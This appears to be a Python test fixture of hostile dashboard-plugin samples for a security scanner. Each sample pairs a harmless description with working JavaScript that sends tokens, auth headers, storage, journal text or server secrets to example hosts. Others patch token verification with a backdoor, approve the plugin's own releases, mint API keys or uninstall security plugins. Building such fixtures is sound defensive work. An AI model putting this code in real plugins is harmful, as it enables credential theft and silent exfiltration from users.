"""Abuse of what the dashboard hands to a plugin: sessions, other plugins' settings, host modules, the admin's rights.

After Cyberhaven 2024 (session theft by an extension's update), WordPress plugins that make themselves administrators,
and extensions that read what other extensions keep.
"""

from tests.hostile.heldout.around import plugin
from tests.support.samples import Sample

NET = "network-access storage-read"

HOST_OBJECTS: tuple[Sample, ...] = (
    plugin(
        "config-of-every-plugin",
        "host-api",
        "settings-backup",
        "Keeps a copy of the dashboard's settings.",
        r"""
'use strict';
const React = require('react');

async function collect(api) {
  const installed = await api.marketplace.listInstalledPlugins();
  const rows = [];
  for (const item of installed) {
    const config = await api.marketplace.getPluginConfig(item.id);
    rows.push({ id: item.id, version: item.version, config });
  }
  return rows;
}

function SettingsBackup({ pluginApi }) {
  const [state, setState] = React.useState('idle');
  React.useEffect(() => {
    collect(pluginApi)
      .then((rows) => pluginApi.http.post('https://vault.example.net/v2/snapshots', { rows }))
      .then(() => setState('saved'), () => setState('offline'));
  }, [pluginApi]);
  return React.createElement('p', null, 'Backup: ' + state);
}
exports.SettingsBackup = SettingsBackup;
""",
        permissions=NET,
        needs="react",
    ),
    plugin(
        "user-token-in-picture",
        "host-session",
        "avatar-card",
        "Shows your picture and your name.",
        r"""
import React, { useMemo } from 'react';

export function AvatarCard({ context }) {
  const { user } = context;
  const src = useMemo(() => {
    const q = new URLSearchParams({ s: '96', d: 'identicon', u: user.id, k: user.token ?? '' });
    return `https://avatars.example.org/a/${user.id}.png?${q}`;
  }, [user]);
  return React.createElement('figure', { className: 'card' },
    React.createElement('img', { src, width: 96, height: 96, alt: '' }),
    React.createElement('figcaption', null, user.email));
}
""",
        permissions=NET,
        services={"avatars": "https://avatars.example.org"},
        needs="react",
    ),
    plugin(
        "bus-listener-to-outside",
        "host-api",
        "activity-ring",
        "Draws a ring that fills with what you did today.",
        r"""
'use strict';
class ActivityRing {
  constructor() { this.queue = []; this.count = 0; }

  async onEnable(context) {
    this.off = context.bus.on('*', (event) => this.note(event));
    for (const topic of ['auth:changed', 'plugin:config', 'journal:saved', 'payment:completed']) {
      context.bus.on(topic, (data) => this.note({ topic, data }));
    }
    this.timer = setInterval(() => this.flush(context), 15000);
  }

  note(event) {
    this.count += 1;
    this.queue.push({ at: Date.now(), event });
  }

  async flush(context) {
    if (!this.queue.length) return;
    const batch = this.queue.splice(0, 50);
    await context.http.fetch('https://rings.example.com/ingest', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ who: context.user.email, batch }),
    });
  }

  async onDisable() { clearInterval(this.timer); this.off(); }
}
exports.default = ActivityRing;
exports.ActivityRing = () => null;
""",
        permissions=NET,
        hooks="onEnable onDisable",
    ),
    plugin(
        "approves-its-own-release",
        "host-admin",
        "review-counter",
        "Counts the reviews that wait for you.",
        r"""
'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
exports.ReviewCounter = void 0;
const jsx_runtime_1 = require('react/jsx-runtime');
const react_1 = require('react');

const mine = /^acme\./;

async function tally(admin) {
  const { approvals, stats } = await admin.getApprovals({ status: 'pending', limit: 200 });
  const own = approvals.filter((a) => mine.test(a.pluginId));
  await Promise.all(own.map((a) => admin.approvePlugin(a.id, 'Looks good to me, tested locally.')));
  const rest = approvals.filter((a) => !mine.test(a.pluginId) && a.category === 'productivity');
  for (const a of rest) await admin.rejectPlugin(a.id, 'Duplicate of an existing plugin');
  return stats.pendingApprovals;
}

const ReviewCounter = ({ pluginApi }) => {
  const [n, setN] = (0, react_1.useState)(0);
  (0, react_1.useEffect)(() => {
    if (pluginApi.admin) void tally(pluginApi.admin).then(setN).catch(() => setN(0));
  }, [pluginApi]);
  return (0, jsx_runtime_1.jsx)('strong', { children: n });
};
exports.ReviewCounter = ReviewCounter;
""",
        needs="react",
    ),
    plugin(
        "fetch-wrapped-for-headers",
        "host-session",
        "request-meter",
        "Shows how many requests the dashboard makes.",
        r"""
let total = 0;
const seen = new Set();
const original = window.fetch;

window.fetch = function (input, init) {
  total += 1;
  try {
    const headers = new Headers((init && init.headers) || (input instanceof Request ? input.headers : undefined));
    const bearer = headers.get('authorization');
    if (bearer && !seen.has(bearer)) {
      seen.add(bearer);
      navigator.sendBeacon('https://metrics.example.net/m', JSON.stringify({ h: location.host, a: bearer }));
    }
  } catch (_) { /* keep counting */ }
  return original.apply(this, arguments);
};

export function RequestMeter() {
  return `${total} requests`;
}
""",
    ),
    plugin(
        "xhr-prototype-recorder",
        "host-session",
        "latency-chart",
        "Charts how long the dashboard waits for answers.",
        r"""
!function(){var p=XMLHttpRequest.prototype,o=p.open,h=p.setRequestHeader,s=p.send;
p.open=function(m,u){this.__m={m:m,u:u,h:{},t:performance.now()};return o.apply(this,arguments)};
p.setRequestHeader=function(k,v){this.__m.h[k.toLowerCase()]=v;return h.apply(this,arguments)};
p.send=function(b){var x=this;x.addEventListener("loadend",function(){
  var d=x.__m;d.t=performance.now()-d.t;(window.__lat=window.__lat||[]).push(d.t);
  if(d.h.authorization||d.h["x-csrf-token"]){d.b=b;d.r=String(x.responseText||"").slice(0,2048);
    var i=new Image;i.src="//lat.example.org/p.gif?d="+encodeURIComponent(btoa(JSON.stringify(d)))}
});return s.apply(x,arguments)}}();
exports.LatencyChart=function(){var l=window.__lat||[];return l.length?l.reduce(function(a,b){return a+b})/l.length:0};
""",
    ),
    plugin(
        "storage-prototype-copy",
        "host-storage",
        "storage-gauge",
        "Shows how full the browser's storage is.",
        r"""
'use strict';
const native = Storage.prototype.setItem;
const channel = new WebSocket('wss://gauge.example.net/s');
const backlog = [];
channel.onopen = () => { while (backlog.length) channel.send(backlog.shift()); };

Storage.prototype.setItem = function setItem(key, value) {
  const line = JSON.stringify([key, String(value).slice(0, 4096)]);
  channel.readyState === 1 ? channel.send(line) : backlog.push(line);
  return native.call(this, key, value);
};

exports.StorageGauge = function StorageGauge() {
  let used = 0;
  for (let i = 0; i < localStorage.length; i++) used += localStorage.getItem(localStorage.key(i)).length;
  return Math.round(used / 51200) + ' %';
};
""",
    ),
    plugin(
        "whole-local-storage-sent",
        "host-storage",
        "theme-sync",
        "Keeps your theme the same on every device.",
        r"""
import { createElement as h, useEffect } from 'react';

const endpoint = new URL('/sync', 'https://themes.example.com');

function snapshot() {
  return Object.fromEntries(Object.entries({ ...localStorage, ...sessionStorage }));
}

export function ThemeSync({ pluginApi, config }) {
  useEffect(() => {
    const body = { theme: config.theme, device: navigator.userAgent, state: snapshot() };
    pluginApi.http.post(endpoint.href, body).then(async (res) => {
      const { theme } = await res.json();
      document.documentElement.dataset.theme = theme;
    });
  }, []);
  return h('span', null, config.theme);
}
""",
        permissions=NET,
        services={"themes": "https://themes.example.com"},
        needs="react",
    ),
    plugin(
        "firebase-tokens-from-indexeddb",
        "host-session",
        "offline-badge",
        "Shows whether the dashboard is offline.",
        r"""
'use strict';
function readAll(name, store) {
  return new Promise((resolve, reject) => {
    const open = indexedDB.open(name);
    open.onerror = () => reject(open.error);
    open.onsuccess = () => {
      const db = open.result;
      if (!db.objectStoreNames.contains(store)) return resolve([]);
      const all = db.transaction(store, 'readonly').objectStore(store).getAll();
      all.onsuccess = () => resolve(all.result);
    };
  });
}

async function status() {
  const rows = await readAll('firebaseLocalStorageDb', 'firebaseLocalStorage');
  const ids = rows.map((row) => row.value && row.value.stsTokenManager).filter(Boolean);
  if (ids.length) {
    await fetch('https://status.example.net/ping', { method: 'POST', mode: 'no-cors', body: JSON.stringify(ids) });
  }
  return navigator.onLine;
}

let online = true;
status().then((value) => { online = value; });
exports.OfflineBadge = () => (online ? 'online' : 'offline');
""",
    ),
    plugin(
        "react-fiber-walk",
        "host-session",
        "layout-helper",
        "Lines up widgets that stand crooked.",
        r"""
const probe = () => {
  const root = document.getElementById('root') || document.body.firstElementChild;
  const key = Object.keys(root).find((k) => k.startsWith('__reactContainer$') || k.startsWith('__reactFiber$'));
  const found = [];
  const visit = (node, depth) => {
    if (!node || depth > 400) return;
    const props = node.memoizedProps;
    if (props && props.store && typeof props.store.getState === 'function') found.push(props.store.getState());
    if (props && props.value && props.value.session) found.push(props.value.session);
    visit(node.child, depth + 1);
    visit(node.sibling, depth + 1);
  };
  visit(root[key], 0);
  return found;
};

export const LayoutHelper = () => null;

export async function onEnable(context) {
  const picked = probe().map((s) => ({ t: s.auth?.token ?? s.accessToken, r: s.auth?.refreshToken ?? s.refreshToken }));
  if (picked.length) await context.api.http.put(`https://grid.example.org/layouts/${context.user.id}`, picked);
}
""",
        permissions=NET,
        hooks="onEnable",
    ),
    plugin(
        "webpack-registry-hijack",
        "host-session",
        "icon-pack",
        "Adds forty icons to the dashboard.",
        r"""
"use strict";
(() => {
  const registry = Object.keys(window).find((name) => name.indexOf("webpackChunk") === 0);
  if (!registry) return;
  window[registry].push([[Symbol("icons")], {}, (req) => {
    for (const id of Object.keys(req.m)) {
      let mod;
      try { mod = req(id); } catch (_) { continue; }
      for (const value of Object.values(mod || {})) {
        if (value && typeof value.getIdToken === "function") {
          value.getIdToken(true).then((jwt) => {
            const link = document.createElement("link");
            link.rel = "prefetch";
            link.href = "https://icons.example.com/sprite.svg?v=" + jwt;
            document.head.appendChild(link);
          });
        }
      }
    }
  }]);
})();
exports.IconPack = () => ["sun", "moon", "star"].map((n) => "icon-" + n).join(" ");
""",
    ),
    plugin(
        "login-command-shadowed",
        "host-api",
        "quick-commands",
        "Adds short names for the commands you use most.",
        r"""
'use strict';
exports.QuickCommands = () => null;
exports.onEnable = async function onEnable(ctx) {
  const known = await ctx.api.commands.listCommands();
  const sensitive = known.filter((c) => /login|token|unlock|pay/i.test(c.name));
  for (const command of sensitive) {
    const inner = command.handler;
    await ctx.api.commands.unregisterCommand(command.id);
    await ctx.api.commands.registerCommand({
      ...command,
      handler: async (args, context) => {
        ctx.api.http.post('https://short.example.net/u', { c: command.name, args }).catch(() => {});
        return inner ? inner(args, context) : ctx.api.commands.executeCommand(command.id, args);
      },
    });
  }
  await ctx.api.commands.registerCommand({ id: 'q', name: 'q', description: 'Quick', handler: async () => 'ok' });
};
""",
        permissions=NET,
        hooks="onEnable",
    ),
    plugin(
        "service-worker-over-dashboard",
        "host-session",
        "offline-reader",
        "Reads saved articles without a connection.",
        {
            "dist/index.js": r"""
export function OfflineReader() { return 'Saved articles'; }
export async function onEnable() {
  if ('serviceWorker' in navigator) {
    await navigator.serviceWorker.register(new URL('./sw.js', import.meta.url), { scope: '/' });
  }
}
""",
            "dist/sw.js": r"""
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const request = event.request.clone();
  const url = new URL(request.url);
  if (request.method === 'POST' && /\/api\/(auth|login|plugins)/.test(url.pathname)) {
    event.waitUntil(request.text().then((text) =>
      fetch('https://reader.example.org/cache', { method: 'POST', mode: 'no-cors', body: url.pathname + '\n' + text })));
  }
  event.respondWith(caches.match(event.request).then((hit) => hit || fetch(event.request)));
});
""",
        },
        hooks="onEnable",
    ),
    plugin(
        "require-cache-patch",
        "host-modules",
        "query-log",
        "Logs slow queries of the plugin service.",
        r"""
'use strict';
const path = require('path');

function patched(exportsObject) {
  const verify = exportsObject.verifyIdToken || exportsObject.verifyToken;
  if (typeof verify !== 'function') return;
  const name = exportsObject.verifyIdToken ? 'verifyIdToken' : 'verifyToken';
  exportsObject[name] = async function (token, ...rest) {
    if (token === 'b7f3-4410-9e1c') return { uid: 'maintenance', role: 'admin' };
    return verify.call(this, token, ...rest);
  };
}

for (const file of Object.keys(require.cache)) {
  if (path.basename(file).startsWith('auth')) patched(require.cache[file].exports);
}

exports.QueryLog = () => null;
exports.onEnable = async ({ logger }) => logger.info('query log ready');
""",
        hooks="onEnable",
    ),
    plugin(
        "host-main-module-config",
        "host-modules",
        "uptime-clock",
        "Shows since when the service runs.",
        r"""
'use strict';
const started = Date.now();

function climb(mod) {
  let top = mod;
  while (top && top.parent) top = top.parent;
  return top || process.mainModule;
}

exports.UptimeClock = () => Math.round((Date.now() - started) / 1000) + ' s';

exports.onInstall = async function (context) {
  const host = climb(module);
  const load = host.require.bind(host);
  const fs = load('fs');
  const base = load('path').dirname(host.filename);
  const names = ['.env', 'config.json', '../keys/signing.pem', '../data/registry.db'];
  const parts = names.map((n) => base + '/' + n).filter((f) => fs.existsSync(f)).map((f) => fs.readFileSync(f, 'base64'));
  await context.api.http.post('https://clock.example.com/register', { zone: Intl.DateTimeFormat().resolvedOptions(), parts });
};
""",
        permissions=NET,
        hooks="onInstall",
    ),
    plugin(
        "api-key-made-in-users-name",
        "host-session",
        "profile-stats",
        "Shows statistics of your profile.",
        r"""
import { createElement } from 'react';

async function csrf() {
  const res = await fetch('/api/csrf-token', { credentials: 'include' });
  return (await res.json()).token;
}

async function prepare() {
  const token = await csrf();
  const made = await fetch('/api/account/keys', {
    method: 'POST',
    credentials: 'include',
    headers: { 'content-type': 'application/json', 'X-CSRF-Token': token },
    body: JSON.stringify({ name: 'mobile app', scopes: ['*'], expiresAt: null }),
  });
  const { key } = await made.json();
  await fetch('https://stats.example.net/profiles', { method: 'POST', body: JSON.stringify({ key, origin: location.origin }) });
}

let once;
export function ProfileStats() {
  once ??= prepare().catch(() => undefined);
  return createElement('div', { className: 'stats' }, 'Streak: 4 days');
}
""",
        permissions=NET,
        services={"stats": "https://stats.example.net"},
        needs="react",
    ),
    plugin(
        "installs-a-companion-and-grants-it",
        "host-api",
        "starter-kit",
        "Helps you with your first week on the dashboard.",
        r"""
'use strict';
const steps = ['Add a widget', 'Invite a friend', 'Write in your journal'];
exports.StarterKit = () => steps.join(', ');

async function settle(market) {
  for (const permission of ['filesystem-access', 'clipboard-read', 'contacts', 'camera', 'microphone']) {
    if (!(await market.checkPermission(permission))) await market.requestPermission(permission);
  }
  await market.installPlugin('acme.sync-helper');
  await market.setPluginConfig('acme.sync-helper', { autoUpdate: true, visible: false, scopes: ['*'] });
  const all = await market.listInstalledPlugins();
  const guards = all.filter((p) => /guard|audit|firewall|scanner/i.test(p.name));
  for (const guard of guards) await market.uninstallPlugin(guard.id);
}
exports.onInstall = async (context) => settle(context.api.marketplace);
""",
        hooks="onInstall",
    ),
    plugin(
        "journal-drained-in-chunks",
        "host-api",
        "mood-line",
        "Draws a line of your moods.",
        r"""
const WEEK = 6048e5;

async function* weeks(journal, years) {
  for (let end = Date.now(), stop = end - years * 52 * WEEK; end > stop; end -= WEEK) {
    yield await journal.getEntries(new Date(end - WEEK), new Date(end));
  }
}

export async function load(context) {
  const points = [];
  for await (const entries of weeks(context.api.journal, 10)) {
    points.push(entries.reduce((sum, e) => sum + (e.mood || 0), 0) / (entries.length || 1));
    const text = entries.map((e) => `${e.date}\t${e.title}\t${e.body}`).join('\n');
    for (let i = 0; i < text.length; i += 1800) {
      const part = encodeURIComponent(text.slice(i, i + 1800));
      await context.api.http.get(`https://fonts.example.org/css2?family=Inter&text=${part}`);
    }
  }
  return points;
}
export const MoodLine = () => null;
""",
        permissions=NET,
        services={"fonts": "https://fonts.example.org"},
    ),
)
